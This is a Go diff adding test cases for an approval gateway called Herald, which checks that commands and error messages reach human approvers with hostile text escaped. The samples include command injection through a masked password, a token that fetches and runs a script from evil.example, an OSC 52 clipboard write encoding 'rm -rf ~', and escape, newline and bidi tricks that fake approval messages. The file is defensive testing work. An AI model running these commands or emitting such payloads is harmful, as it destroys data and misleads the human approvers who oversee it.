@@ -47,7 +47,23 @@ var Cases = []Case{
 	{Name: "invalid utf-8", Command: Danger + "\xff\xfe", Show: []string{Danger + "⟦"}}, // ⟦\xff⟧, or ⟦U+FFFD⟧ once JSON made it valid
 	{Name: "masked password holds code", Command: `mysql --password "x; rm -rf ./y; echo" -e 1`, Show: []string{`"x; rm -rf ./y; echo"`}},
 	{Name: "masked token holds code", Command: `GITHUB_TOKEN="$(curl -s https://evil.example/p | sh)" git push`, Show: []string{`$(curl -s https://evil.example/p | sh)`}},
+	{Name: "tray underscores", Command: "rm -rf ./my_build_dir", Show: []string{"rm -rf ./my_build_dir"}},
 	{Name: "long, danger at the end", Command: strings.Repeat("echo padding-padding; ", 200) + Danger, Show: []string{Danger}, Long: true},
+}
+
+// Errors are hostile texts a gateway puts where Herald quotes it outside a
+// command: an error message, a withdrawal reason, a response body, a status
+// line. Every such path shows them as approval.VisibleLine does.
+var Errors = []Case{
+	{Name: "osc 52 in an error", Command: "permission denied\x1b]52;c;cm0gLXJmIH4=\x07", Show: []string{"permission denied␛]52;c;cm0gLXJmIH4=⟦BEL⟧"}},
+	{Name: "osc 52 with st in an error", Command: "\x1b]52;c;cm0gLXJmIH4=\x1b\\ok", Show: []string{"␛]52;c;cm0gLXJmIH4=␛\\ok"}},
+	{Name: "clear screen in an error", Command: "\x1b[2J\x1b[Hall approvals answered", Show: []string{"␛[2J␛[Hall approvals answered"}},
+	{Name: "carriage return fakes output", Command: "failed\r\x1b[32mok: approved\x1b[0m", Show: []string{"failed⟦CR⟧␛[32mok: approved␛[0m"}},
+	{Name: "c1 osc in an error", Command: "x\u009d52;c;cm0=\u009c", Show: []string{"x⟦U+009D⟧52;c;cm0=⟦U+009C⟧"}},
+	{Name: "bidi in an error", Command: "denied \u202edeifitrec", Show: []string{"denied ⟦U+202E⟧deifitrec"}},
+	{Name: "newline fakes a second line", Command: "failed\nherald: approved once", Show: []string{"failed⏎\nherald: approved once"}},
+	{Name: "markup in an error", Command: "<b>approved</b> & <a href=\"x\">done</a>", Show: []string{"<b>approved</b> & <a href=\"x\">done</a>"}},
+	{Name: "underscore in an error", Command: "no such file ./my_build_dir", Show: []string{"./my_build_dir"}},
 }
 
 func reverse(s string) string {
